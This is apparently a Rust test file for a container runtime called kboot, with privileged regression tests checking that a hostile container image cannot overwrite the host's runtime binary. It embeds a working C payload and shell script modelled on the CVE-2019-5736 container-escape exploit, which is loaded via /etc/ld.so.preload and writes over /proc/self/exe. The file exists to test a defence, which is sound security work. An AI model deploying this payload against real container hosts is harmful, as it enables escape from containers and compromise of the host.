//! Tier 3: images built to attack the host through kboot (issue 11). Each ends in a clear
//! error or a correct result within seconds, with kboot's memory bounded, and never
//! reads, writes or runs anything on the host outside the container.

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use crate::common::{kboot_bin, require_root, run_ok, Dir};
use crate::containers_support::{busybox_rootfs, find, ps, sleepers_plan, wait_until, Down};

fn guard(d: &Dir) -> Down<'_> {
    Down {
        dir: d,
        env: Vec::new(),
    }
}

fn sha256(path: &Path) -> String {
    let out = run_ok(Command::new("sha256sum").arg(path));
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .next()
        .unwrap()
        .to_owned()
}

/// The shared libraries `bin` loads (its loader included), as `ldd` lists them.
fn shared_libraries(bin: &Path) -> Vec<PathBuf> {
    let out = run_ok(Command::new("ldd").arg(bin));
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| l.split_whitespace().find(|w| w.starts_with('/')).map(PathBuf::from))
        .collect()
}

/// The payload of CVE-2019-5736's published exploit, as a library the container's
/// `/etc/ld.so.preload` makes every dynamic program load: in a process whose
/// `/proc/self/exe` is the runtime's binary, it keeps an `O_PATH` handle on that binary,
/// lets the process exit (a running binary cannot be opened for writing), and from a
/// shell left behind in the container reopens the handle for writing and overwrites it.
/// `/report` says what happened.
const PAYLOAD: &str = r#"
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void attack(void) {
    char exe[512] = {0};
    if (readlink("/proc/self/exe", exe, sizeof exe - 1) < 0) return;
    FILE *r = fopen("/report", "w");
    if (!r) return;
    fprintf(r, "exe=%s\n", exe);
    fclose(r);
    int fd = open("/proc/self/exe", O_PATH);
    if (fd < 0) return;
    if (fork() == 0) {
        dup2(fd, 3);
        setsid();
        execl("/bin/sh", "sh", "/writer.sh", (char *)0);
        _exit(1);
    }
    _exit(0);
}
"#;

/// Retries while the binary runs (ETXTBSY), then reports whether the write got through.
const WRITER: &str = r#"i=0
while [ $i -lt 100 ]; do
  if err=$( { printf PWNED 1<>/proc/self/fd/3; } 2>&1 ); then echo "write=ok" >>/report; exit 0; fi
  case "$err" in
    *busy*) sleep 0.1 ;;
    *) echo "write=refused: $err" >>/report; exit 0 ;;
  esac
  i=$((i+1))
done
echo "write=refused: still busy" >>/report
"#;

/// CVE-2019-5736's steps against `kboot exec`: the container replaces a program with
/// `#!/proc/self/exe`, so exec'ing it runs the binary that joined the container, with the
/// container's `/etc/ld.so.preload` loading the payload into it. kboot's exec runs from a
/// sealed copy (src/seal.rs), so the payload's write is refused and the binary on disk is
/// unchanged. `KBOOT_TEST_EXEC_BINARY=<path>` runs the exec from another build (one
/// without sealing shows the attack working: this test then fails).
#[test]
#[ignore = "privileged: run as root with --include-ignored (scripts/test.sh)"]
fn hostile_exe_overwrite_through_kboot_exec_is_refused() {
    require_root();
    let d = Dir::new();
    let _down = guard(&d);
    let rootfs = busybox_rootfs(d.path());
    // What the binary needs to start inside the container: its loader and libraries.
    let exec_source = std::env::var_os("KBOOT_TEST_EXEC_BINARY").map_or_else(kboot_bin, PathBuf::from);
    for lib in shared_libraries(&exec_source) {
        let dst = rootfs.join(lib.strip_prefix("/").unwrap());
        std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
        std::fs::copy(&lib, &dst).unwrap();
    }
    let src = d.path().join("payload.c");
    std::fs::write(&src, PAYLOAD).unwrap();
    run_ok(
        Command::new("cc")
            .args(["-shared", "-fPIC", "-o"])
            .arg(rootfs.join("lib/payload.so"))
            .arg(&src),
    );
    std::fs::write(rootfs.join("etc/ld.so.preload"), "/lib/payload.so\n").unwrap();
    std::fs::write(rootfs.join("writer.sh"), WRITER).unwrap();
    std::fs::write(rootfs.join("evil"), "#!/proc/self/exe\n").unwrap();
    std::fs::set_permissions(rootfs.join("evil"), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();

    let plan = sleepers_plan(&d, &rootfs, &["box"], r#"["/bin/sleep", "1000"]"#);
    run_ok(d.kboot().args(["run", "-d", "-f"]).arg(&plan));
    assert!(wait_until(Duration::from_secs(10), || find(&ps(&mut d.kboot()), "box")
        ["status"]
        == "running"));

    // The exec runs from a copy of its own that nothing else runs, as a host's kboot is
    // between two commands: a write is then only refused by sealing, not by ETXTBSY.
    let exec_bin = d.path().join("exec-bin/kboot");
    std::fs::create_dir_all(exec_bin.parent().unwrap()).unwrap();
    std::fs::copy(&exec_source, &exec_bin).unwrap();
    let before = sha256(&exec_bin);
    let env = d.kboot();
    let out = Command::new(&exec_bin)
        .envs(env.get_envs().filter_map(|(k, v)| Some((k, v?))))
        .args(["exec", "box", "--", "/evil"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let report = rootfs.join("report");
    assert!(
        wait_until(Duration::from_secs(20), || std::fs::read_to_string(&report)
            .is_ok_and(|r| r.contains("write="))),
        "the payload never reported (exec: {out:?}, report: {:?})",
        std::fs::read_to_string(&report)
    );
    let text = std::fs::read_to_string(&report).unwrap();
    assert!(
        text.starts_with("exe="),
        "the payload ran in the joining process: {text}"
    );
    assert!(
        !text.contains("write=ok"),
        "the container overwrote kboot's binary: {text}"
    );
    assert_eq!(sha256(&exec_bin), before, "the binary on disk changed: {text}");
}

/// The shim (whose clone is the container's init) runs from the supervisor's sealed copy:
/// its `/proc/<pid>/exe` cannot be opened for writing, from anywhere.
#[test]
#[ignore = "privileged: run as root with --include-ignored (scripts/test.sh)"]
fn hostile_shim_exe_is_a_sealed_copy() {
    require_root();
    let d = Dir::new();
    let _down = guard(&d);
    let rootfs = busybox_rootfs(d.path());
    let plan = sleepers_plan(&d, &rootfs, &["box"], r#"["/bin/sleep", "1000"]"#);
    run_ok(d.kboot().args(["run", "-d", "-f"]).arg(&plan));
    let shims = d.path().join("state/shims/box.json");
    assert!(wait_until(Duration::from_secs(10), || shims.exists()));
    let rec: serde_json::Value = serde_json::from_slice(&std::fs::read(&shims).unwrap()).unwrap();
    let shim = rec["shim_pid"].as_i64().unwrap();
    let exe = format!("/proc/{shim}/exe");
    let mut buf = [0u8; 4];
    std::fs::File::open(&exe).unwrap().read_exact(&mut buf).unwrap();
    assert_eq!(&buf, b"\x7fELF");
    let err = std::fs::OpenOptions::new().write(true).open(&exe).unwrap_err();
    assert_eq!(
        err.raw_os_error(),
        Some(libc::EROFS),
        "the shim's binary can be opened for writing: {err}"
    );
    assert_ne!(
        std::fs::read_link(&exe).unwrap(),
        kboot_bin(),
        "the shim runs the binary on disk"
    );
}
